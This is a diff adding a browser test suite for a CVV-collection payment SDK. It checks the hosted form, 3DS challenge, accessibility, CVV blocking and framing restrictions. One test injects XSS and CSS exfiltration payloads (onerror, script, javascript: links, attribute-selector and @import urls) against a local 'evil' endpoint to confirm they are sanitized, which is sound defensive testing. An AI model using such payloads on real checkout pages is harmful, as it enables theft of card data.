@@ -1,0 +1,305 @@
+import assert from 'node:assert/strict';
+import { randomBytes } from 'node:crypto';
+import { readFileSync } from 'node:fs';
+import http from 'node:http';
+import { createRequire } from 'node:module';
+import { join } from 'node:path';
+import { after, before, describe, it } from 'node:test';
+import type { Browser, Frame, Page } from 'playwright-core';
+import { buildApp } from '../../server/app.js';
+import { loadConfig } from '../../server/config.js';
+import { ManualClock } from '../../server/domain/clock.js';
+import { createDeps, type Deps } from '../../server/deps.js';
+import { createLogger } from '../../server/log.js';
+import { Secret } from '../../server/secret.js';
+import { chromiumAvailable, freePort, launchChromium } from '../helpers/browser.js';
+
+const AXE = readFileSync(createRequire(import.meta.url).resolve('axe-core/axe.min.js'), 'utf8');
+const SHOTS = join(process.cwd(), 'docs', 'screenshots');
+
+if (!chromiumAvailable()) {
+  describe('the browser flow', () => {
+    it('runs in real Chromium', { skip: 'Chromium not installed (apt-get install -y chromium)' }, () => {});
+  });
+} else {
+  describe('the browser flow in real Chromium', () => {
+    let deps: Deps;
+    let server: http.Server;
+    let shop: http.Server;
+    let other: http.Server;
+    let browser: Browser;
+    let base: string;
+    let shopOrigin: string;
+    let otherOrigin: string;
+    let key: string;
+    let merchantId: string;
+    const evilHits: string[] = [];
+
+    /** The merchant's own server: its page (another origin) and its backend, which uses our API with its key. */
+    function merchantApp(): http.Server {
+      return http.createServer(async (req, res) => {
+        const url = new URL(req.url ?? '/', shopOrigin);
+        if (url.pathname.startsWith('/evil')) {
+          evilHits.push(url.pathname + url.search);
+          res.writeHead(204).end();
+          return;
+        }
+        const api = async (path: string, body: unknown) => {
+          const r = await fetch(`${base}${path}`, { method: 'POST', headers: { authorization: `Bearer ${key}`, 'content-type': 'application/json' }, body: JSON.stringify(body) });
+          return r.json() as Promise<any>;
+        };
+        if (url.pathname === '/session') {
+          const card = await api('/Cards', { number: url.searchParams.get('card') ?? '4000000000002024', expMonth: 12, expYear: 2030 });
+          const form = url.searchParams.get('form');
+          const s = await api('/CvvOperations', { card: card.token, operations: ['collectCvv', 'threeDS', 'charge'], amount: { value: 1999, currency: 'EUR' }, ...(form ? { form } : {}) });
+          res.writeHead(200, { 'content-type': 'application/json' }).end(JSON.stringify({ token: s.token }));
+          return;
+        }
+        if (url.pathname === '/validate') {
+          let body = '';
+          for await (const c of req) body += c;
+          res.writeHead(200, { 'content-type': 'application/json' }).end(JSON.stringify(await api('/CvvOperations/validateToken', JSON.parse(body))));
+          return;
+        }
+        const sri = `sha384-${(await import('node:crypto')).createHash('sha384').update(readFileSync(join(process.cwd(), 'public/sdk/v1/cvvops.js'))).digest('base64')}`;
+        res.writeHead(200, { 'content-type': 'text/html' }).end(`<!doctype html><html lang="en"><head><meta charset="utf-8"><title>Shop</title></head><body>
+<main><h1>Checkout</h1><div id="cvv"></div><button id="pay" type="button" disabled>Pay</button><p id="out" role="status"></p></main>
+<script src="${base}/sdk/v1/cvvops.js" integrity="${sri}" crossorigin="anonymous"></script>
+<script>
+window.flow = (async () => {
+  const q = new URLSearchParams(location.search);
+  const { token } = await (await fetch('/session?' + q.toString())).json();
+  const form = await CvvOps.mount('#cvv', { token, locale: q.get('locale') || undefined, theme: { '--cvvops-accent': '#0a7d4f' } });
+  window.form = form;
+  window.events = [];
+  form.on('change', (e) => { window.events.push(['change', e]); document.querySelector('#pay').disabled = !e.valid; });
+  form.on('token', () => window.events.push(['token']));
+  form.on('error', (e) => window.events.push(['error', e.code]));
+  document.querySelector('#pay').addEventListener('click', async () => {
+    try {
+      const c = await form.collectCvv();
+      const t = await form.threeDS();
+      const p = await form.charge();
+      const v = await (await fetch('/validate', { method: 'POST', body: JSON.stringify({ token: form.token }) })).json();
+      document.querySelector('#out').textContent = JSON.stringify({ collect: c.result.status, threeDS: t.result.status, charge: p.result.status, declineCode: p.result.declineCode, valid: v.valid, current: v.current, res: v.claims && v.claims.res.charge.status });
+    } catch (e) {
+      document.querySelector('#out').textContent = JSON.stringify({ error: e.code, status: e.status });
+    }
+  });
+  return true;
+})();
+</script></body></html>`);
+      });
+    }
+
+    before(async () => {
+      const port = await freePort();
+      base = `http://127.0.0.1:${port}`;
+      shop = merchantApp();
+      await new Promise<void>((r) => shop.listen(0, 'localhost', () => r()));
+      shopOrigin = `http://localhost:${(shop.address() as { port: number }).port}`;
+      other = http.createServer((req, res) => {
+        const src = new URL(req.url ?? '/', 'http://x').searchParams.get('src') ?? '';
+        res.writeHead(200, { 'content-type': 'text/html' }).end(`<!doctype html><title>Other</title><iframe id="f" src="${src.replace(/"/g, '&quot;')}"></iframe>`);
+      });
+      await new Promise<void>((r) => other.listen(0, '127.0.0.1', () => r()));
+      otherOrigin = `http://127.0.0.1:${(other.address() as { port: number }).port}`;
+      const master = randomBytes(32);
+      const config = loadConfig({
+        PORT: String(port), PUBLIC_BASE_URL: base, DATABASE_URL: `sqlite::memory:`, CVVOPS_MASTER_KEY: master.toString('base64'),
+        CVVOPS_RATE_LIMIT: 'off', LOG_LEVEL: 'silent', CVVOPS_DEMO: 'on',
+      });
+      deps = await createDeps(config, createLogger('silent'), { clock: new ManualClock(Date.now()), masterKey: new Secret(master) });
+      const created = await deps.merchants.create({ name: 'Shop', origins: [shopOrigin] });
+      await deps.origins.refresh();
+      key = created.testKey.expose();
+      merchantId = created.merchant.id;
+      server = buildApp(deps).listen(port, '127.0.0.1');
+      await new Promise((r) => server.once('listening', r));
+      browser = await launchChromium();
+    });
+
+    after(async () => {
+      await browser?.close();
+      server?.close();
+      shop?.close();
+      other?.close();
+      await deps?.close();
+    });
+
+    async function shopPage(query = ''): Promise<{ page: Page; form: Frame }> {
+      const page = await browser.newPage();
+      page.setDefaultTimeout(15_000);
+      await page.goto(`${shopOrigin}/${query}`);
+      await page.waitForFunction('window.flow');
+      await page.evaluate('window.flow');
+      const handle = await page.waitForSelector('#cvv iframe');
+      const form = (await handle.contentFrame())!;
+      await form.waitForSelector('[data-cvvops="cvv"]');
+      return { page, form };
+    }
+
+    async function axe(frame: Page | Frame): Promise<unknown[]> {
+      await frame.evaluate(AXE);
+      const r = await frame.evaluate('axe.run(document, { resultTypes: ["violations"] }).then(r => r.violations.map(v => ({ id: v.id, impact: v.impact, nodes: v.nodes.map(n => n.html) })))');
+      return r as unknown[];
+    }
+
+    it('a merchant page on another origin mounts the SDK; the shopper types the CVV, passes the challenge, is charged; the merchant validates', async () => {
+      const { page, form } = await shopPage('?card=4000000000002024');
+      assert.equal(await page.locator('#pay').isDisabled(), true);
+      await form.locator('[data-cvvops="cvv"]').fill('123');
+      await page.waitForFunction(() => !(document.querySelector('#pay') as HTMLButtonElement).disabled);
+      assert.equal(await form.locator('[data-cvvops="cvv"]').getAttribute('autocomplete'), 'cc-csc');
+      assert.equal(await form.locator('[data-cvvops="cvv"]').getAttribute('inputmode'), 'numeric');
+      assert.equal(await form.locator('[data-cvvops="cvv"]').getAttribute('maxlength'), '3');
+      await page.screenshot({ path: join(SHOTS, 'hosted-form.png') });
+      await page.click('#pay');
+      const overlay = await page.waitForSelector('iframe[title="Payment verification"]');
+      const challenge = (await overlay.contentFrame())!;
+      await challenge.waitForSelector('#code');
+      assert.deepEqual(await axe(challenge), [], 'axe: the challenge page');
+      await challenge.locator('#code').fill('123456');
+      await page.screenshot({ path: join(SHOTS, 'challenge.png') });
+      await challenge.locator('button[type=submit]').click();
+      await page.waitForFunction(() => document.querySelector('#out')!.textContent !== '', undefined, { timeout: 20_000 });
+      const out = JSON.parse((await page.textContent('#out'))!);
+      assert.deepEqual(out, { collect: 'succeeded', threeDS: 'Y', charge: 'approved', declineCode: null, valid: true, current: true, res: 'approved' });
+      // The CVV never reached the merchant's page: not in its DOM, not in its events.
+      const events = JSON.stringify(await page.evaluate('window.events'));
+      assert.ok(events.includes('"valid":true'));
+      assert.ok(!events.includes('123'), 'no CVV in the events the merchant page received');
+      assert.equal(await form.locator('[data-cvvops="cvv"]').inputValue(), '', 'the field is cleared after collection');
+      await page.close();
+    });
+
+    it('the hosted form has no accessibility violations, in French too', async () => {
+      for (const locale of ['en', 'fr']) {
+        const { page, form } = await shopPage(`?card=4000000000001018&locale=${locale}`);
+        assert.deepEqual(await axe(form), [], `axe: hosted form (${locale})`);
+        const label = await form.locator('label[for="cvvops-cvv"]').textContent();
+        assert.equal(label, locale === 'fr' ? 'Cryptogramme visuel (CVV)' : 'Security code (CVV)');
+        await page.close();
+      }
+    });
+
+    it('keyboard only: tab into the field, type, tab to Pay, press Enter', async () => {
+      const { page, form } = await shopPage('?card=4000000000001018');
+      await page.keyboard.press('Tab');
+      const focused = await form.evaluate(() => document.activeElement?.getAttribute('data-cvvops'));
+      assert.equal(focused, 'cvv');
+      await page.keyboard.type('123');
+      await page.waitForFunction(() => !(document.querySelector('#pay') as HTMLButtonElement).disabled);
+      await page.keyboard.press('Tab'); // the show/hide toggle
+      await page.keyboard.press('Tab'); // out of the frame, to Pay
+      await page.keyboard.press('Enter');
+      await page.waitForFunction(() => document.querySelector('#out')!.textContent !== '', undefined, { timeout: 20_000 });
+      assert.equal(JSON.parse((await page.textContent('#out'))!).charge, 'approved');
+      await page.close();
+    });
+
+    it('a wrong CVV is declined (incorrect_cvc) three times, then the card is blocked', async () => {
+      const number = '4000000000004046';
+      for (let i = 0; i < 3; i++) {
+        const { page, form } = await shopPage(`?card=${number}`);
+        await form.locator('[data-cvvops="cvv"]').fill('999');
+        await page.click('#pay');
+        await page.waitForFunction(() => document.querySelector('#out')!.textContent !== '', undefined, { timeout: 20_000 });
+        const out = JSON.parse((await page.textContent('#out'))!);
+        assert.equal(out.charge, 'declined');
+        assert.equal(out.declineCode, 'incorrect_cvc');
+        await page.close();
+      }
+      const { page, form } = await shopPage(`?card=${number}`);
+      await form.locator('[data-cvvops="cvv"]').fill('123');
+      await page.click('#pay');
+      await page.waitForFunction(() => document.querySelector('#out')!.textContent !== '');
+      assert.deepEqual(JSON.parse((await page.textContent('#out'))!), { error: 'cvv_blocked', status: 423 });
+      assert.match((await form.locator('[data-cvvops="message"]').textContent())!, /cannot be used/);
+      await page.close();
+    });
+
+    it('a custom form: injected script, onerror and exfiltrating CSS do nothing; the flow works', async () => {
+      const res = await fetch(`${base}/CustomForms`, {
+        method: 'POST', headers: { authorization: `Bearer ${key}`, 'content-type': 'application/json' },
+        body: JSON.stringify({
+          name: 'Checkout CVV',
+          html: `<div class="box"><label for="c" data-cvvops="label">Card code</label><input id="c" data-cvvops="cvv" onfocus="fetch('${shopOrigin}/evil/onfocus')">
+<img src="x" onerror="fetch('${shopOrigin}/evil/onerror')"><script>fetch('${shopOrigin}/evil/script')</script>
+<a href="javascript:fetch('${shopOrigin}/evil/js')">x</a><button data-cvvops="submit">Save</button><p data-cvvops="message"></p></div>`,
+          css: `.box{padding:4px} input[value^="1"]{background:url(${shopOrigin}/evil/css1)} @import url(${shopOrigin}/evil/import); input{background-image:url("${shopOrigin}/evil/css2")}`,
+        }),
+      });
+      assert.equal(res.status, 201);
+      const created = await res.json() as any;
+      const removed = created.sanitized.map((r: any) => r.removed);
+      for (const r of ['script', 'event-handler attribute', 'css url()', 'css @import']) assert.ok(removed.includes(r), `reported: ${r} in ${removed}`);
+      const { page, form } = await shopPage(`?card=4000000000001018&form=${created.id}`);
+      assert.equal(await form.locator('label').textContent(), 'Card code');
+      const csp = (await (await fetch(`${base}/hosted/forms/${created.id}`)).headers.get('content-security-policy'))!;
+      assert.doesNotMatch(csp, /unsafe-inline|unsafe-eval/);
+      await form.locator('[data-cvvops="cvv"]').focus();
+      await form.locator('[data-cvvops="cvv"]').fill('123');
+      assert.deepEqual(await axe(form), [], 'axe: custom form');
+      await page.click('#pay');
+      await page.waitForFunction(() => document.querySelector('#out')!.textContent !== '', undefined, { timeout: 20_000 });
+      assert.equal(JSON.parse((await page.textContent('#out'))!).charge, 'approved');
+      await new Promise((r) => setTimeout(r, 300));
+      assert.deepEqual(evilHits, [], 'nothing injected ran or loaded');
+      await page.close();
+    });
+
+    it('an origin the merchant does not allow cannot frame the form', async () => {
+      const r = await fetch(`${base}/CvvOperations`, { method: 'POST', headers: { authorization: `Bearer ${key}`, 'content-type': 'application/json' },
+        body: JSON.stringify({ card: (await (await fetch(`${base}/Cards`, { method: 'POST', headers: { authorization: `Bearer ${key}`, 'content-type': 'application/json' }, body: JSON.stringify({ number: '4000000000001018', expMonth: 12, expYear: 2030 }) })).json() as any).token, operations: ['collectCvv'] }) });
+      const s = await r.json() as any;
+      const page = await browser.newPage();
+      await page.goto(`${otherOrigin}/?src=${encodeURIComponent(s.formUrl)}`);
+      await page.waitForTimeout(1500);
+      const frame = page.frames().find((f) => f !== page.mainFrame());
+      const inputs = frame ? await frame.locator('[data-cvvops="cvv"]').count().catch(() => 0) : 0;
+      assert.equal(inputs, 0, 'the form must not render inside a foreign page');
+      // The same form is framable by the merchant's origin (control).
+      const ok = await browser.newPage();
+      await ok.goto(`${shopOrigin}/?card=4000000000001018`);
+      await ok.evaluate('window.flow');
+      const f = await (await ok.waitForSelector('#cvv iframe')).contentFrame();
+      assert.equal(await f!.locator('[data-cvvops="cvv"]').count(), 1);
+      await page.close();
+      await ok.close();
+      void merchantId;
+    });
+
+    it('the 3DS challenge page works without JavaScript', async () => {
+      const ctx = await browser.newContext({ javaScriptEnabled: false });
+      const card = await (await fetch(`${base}/Cards`, { method: 'POST', headers: { authorization: `Bearer ${key}`, 'content-type': 'application/json' }, body: JSON.stringify({ number: '4000000000002024', expMonth: 12, expYear: 2030 }) })).json() as any;
+      const s = await (await fetch(`${base}/CvvOperations`, { method: 'POST', headers: { authorization: `Bearer ${key}`, 'content-type': 'application/json' }, body: JSON.stringify({ card: card.token, operations: ['threeDS'] }) })).json() as any;
+      const t = await (await fetch(`${base}/CvvOperations/threeDS`, { method: 'POST', headers: { authorization: `Bearer ${s.token}`, 'content-type': 'application/json' }, body: '{}' })).json() as any;
+      const page = await ctx.newPage();
+      await page.goto(t.result.challengeUrl);
+      await page.fill('input[name="code"]', '123456');
+      await page.click('button[type=submit]');
+      await page.waitForSelector('[data-cvvops-3ds-status="Y"]');
+      const r = await fetch(`${base}/CvvOperations/threeDS/result`, { method: 'POST', headers: { authorization: `Bearer ${t.token}`, 'content-type': 'application/json' }, body: '{}' });
+      assert.equal(((await r.json()) as any).result.status, 'Y');
+      await ctx.close();
+    });
+
+    it('the demo checkout runs the whole flow and has no accessibility violations', async () => {
+      const page = await browser.newPage();
+      page.setDefaultTimeout(20_000);
+      await page.goto(`${base}/demo`);
+      assert.deepEqual(await axe(page), [], 'axe: demo');
+      await page.selectOption('#card', '4000000000001018');
+      await page.click('#start');
+      const frame = (await (await page.waitForSelector('#cvv iframe')).contentFrame())!;
+      await frame.locator('[data-cvvops="cvv"]').fill('123');
+      await page.click('#pay');
+      await page.waitForFunction(() => document.querySelector('#outcome')!.textContent !== '' || /Error/.test(document.querySelector('#steps')!.textContent ?? '')).catch(() => undefined);
+      assert.match(await page.textContent('#outcome') ?? '', /Paid/, await page.locator('#steps li').last().textContent() ?? '');
+      assert.equal(await page.locator('#steps li').count(), 5);
+      await page.screenshot({ path: join(SHOTS, 'demo.png'), fullPage: true });
+      await page.close();
+    });
+  });
+}
